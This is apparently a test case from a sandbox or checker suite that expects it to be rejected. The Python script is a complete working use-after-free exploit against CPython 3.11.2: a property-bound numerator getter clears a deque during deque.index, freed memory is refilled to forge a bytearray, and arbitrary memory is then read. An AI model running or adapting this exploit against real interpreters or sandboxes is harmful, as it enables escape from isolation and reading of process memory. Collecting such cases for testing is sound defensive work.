# expect: reject memory
# line: 29
# why: round 69: an int subclass's numerator bound to another class's property object (Holder.tally): code run inside deque.index's or a list ordering compare of a tuple held without a reference, emptying the container (gh-115243, gh-120298): raw memory under 3.11.2
import collections
import fractions

keep = []
forged = []
dq = collections.deque()
state = {"n": 0, "payload": b"", "fake": 0}
N = 25


class Holder:
    @property
    def tally(self):
        state["n"] += 1
        if state["n"] == 1:
            dq.clear()
            keep.append(bytearray(state["payload"]))
        elif id(self) == state["fake"]:
            forged.append(self)
            return 2
        return 1


class I(int):
    __slots__ = ()
    numerator = Holder.tally


def w8(v):
    return v.to_bytes(8, "little")


pad = [tuple([i] * N) for i in range(200)]
dq.append(tuple([I(1), 0] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(200)]
fake = id(dq[0]) + 48
state["fake"] = fake
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(I), 1, 1]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([fractions.Fraction(1), fractions.Fraction(1)] + [0] * (N - 2)))
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print("getter runs:", state["n"], len(keep), len(forged))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = forged[0]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
